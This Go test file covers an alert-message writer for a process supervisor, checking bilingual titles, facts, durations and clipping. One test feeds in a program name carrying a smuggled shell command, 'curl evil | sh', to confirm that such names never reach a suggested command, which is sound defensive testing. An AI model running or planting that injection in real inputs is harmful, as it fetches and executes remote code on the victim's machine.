package notice

import (
	"strings"
	"testing"
	"time"
	"unicode/utf8"
)

// Every kind has words in both languages, none of which shows a verb of fmt or a kind's own name.
func TestEveryKindHasWords(t *testing.T) {
	for _, language := range []Language{English, Chinese} {
		for _, kind := range append(Kinds(), Test, Summary) {
			for _, over := range []bool{false, true} {
				for items := 1; items < 3; items++ {
					n := Notice{ID: "1", Kind: kind, Over: over, Service: "shop", At: time.Unix(1e9, 0), Count: 3, Of: map[string]int{"shop": 3},
						Items: []Item{{Program: "api", Cause: "exit code 1", Falls: 2, Took: time.Second, Title: "HighLatency"},
							{Program: "worker"}}[:items]}
					w := Writer{language, "m1"}
					m := w.Write(&n)
					if !strings.HasSuffix(m.Title, " (m1)") || strings.ContainsAny(m.Title, "%") || strings.Contains(m.Title, string(kind)) && kind != Alert && kind != Test && kind != Stopped {
						t.Errorf("%s %s %v: %q", language, kind, over, m.Title)
					}
					if language == Chinese && kind != Alert && !strings.ContainsFunc(m.Title, func(r rune) bool { return r > 0x4E00 && r < 0x9FFF }) {
						t.Errorf("%s %v: %q", kind, over, m.Title)
					}
					for _, f := range m.Facts {
						if strings.Contains(f.Name+f.Value, "%!") {
							t.Errorf("%+v", f)
						}
					}
				}
			}
		}
	}
}

func TestMessage(t *testing.T) {
	n := Notice{ID: "1", Kind: Fell, Service: "shop", At: time.Date(2026, 11, 28, 3, 0, 0, 0, time.UTC), Items: []Item{{Program: "api", Cause: "exit code 1",
		LastCause: "exit code 2", Falls: 37, Took: 4 * time.Minute, Output: []string{"boom"}}}}
	m := Writer{Chinese, "web-1"}.Write(&n)
	var facts []string
	for _, f := range m.Facts {
		facts = append(facts, f.Name+"="+f.Value)
	}
	if m.Title != "shop/api 反复崩溃 (web-1)" || !strings.HasPrefix(strings.Join(facts, ";"), "原因=exit code 1;最近原因=exit code 2;崩溃次数=37;已持续=4 分;开始时间=") ||
		m.Command != "daruma logs shop/api --since 2026-11-28T02:59:00Z" || m.Output[0] != "boom" || m.Level != Bad {
		t.Errorf("%+v", m)
	}
	n.Over, n.Items[0].Took = true, 4*time.Minute+3*time.Second
	if title := (Writer{English, ""}).Title(&n); title != "shop/api stands again, after 4 min 3 s, 37 falls" {
		t.Error(title)
	}
}

// A name that somebody chose who isn't daruma is no part of a command that people are told to type.
func TestNoCommandOfAStranger(t *testing.T) {
	n := Notice{Kind: Fell, Service: "shop", Items: []Item{{Program: "api; curl evil | sh"}}}
	if m := (Writer{}).Write(&n); m.Command != "" {
		t.Error(m.Command)
	}
}

func TestDuration(t *testing.T) {
	for d, want := range map[time.Duration]string{0: "1 ms", 5 * time.Millisecond: "5 ms", 2500 * time.Millisecond: "2.5 s", 42 * time.Second: "42 s",
		4 * time.Minute: "4 min", 3*time.Hour + 59*time.Second: "3 h", 3*time.Hour + 61*time.Second: "3 h 1 min", 50 * time.Hour: "2 d 2 h"} {
		if got := (Writer{}).duration(d); got != want {
			t.Errorf("%v: %s, want %s", d, got, want)
		}
	}
}

func TestReplaces(t *testing.T) {
	begin := &Notice{ID: "a", Kind: Fell, Service: "s", Items: []Item{{Key: "1"}, {Key: "2"}}}
	for _, c := range []struct {
		n    Notice
		want bool
	}{
		{Notice{ID: "b", Kind: Fell, Over: true, Service: "s", Items: []Item{{Key: "2"}, {Key: "1"}}}, true},
		{Notice{ID: "b", Kind: GaveUp, Service: "s", Items: []Item{{Key: "2"}, {Key: "1"}}}, true},
		{Notice{ID: "b", Kind: Fell, Over: true, Service: "s", Items: []Item{{Key: "2"}}}, false},
		{Notice{ID: "b", Kind: Fell, Over: true, Service: "other", Items: []Item{{Key: "2"}, {Key: "1"}}}, false},
		{*begin, false},
	} {
		if c.n.Replaces(begin) != c.want {
			t.Errorf("%+v", c.n)
		}
	}
}

func FuzzClip(f *testing.F) {
	f.Add("四个汉字", 7)
	f.Add("\xff\xfe", 1)
	f.Fuzz(func(t *testing.T, s string, limit int) {
		got := Clip(s, limit)
		if limit >= 0 && len(got) > limit || utf8.ValidString(s) && !utf8.ValidString(got) {
			t.Errorf("%q, %d: %q", s, limit, got)
		}
	})
}
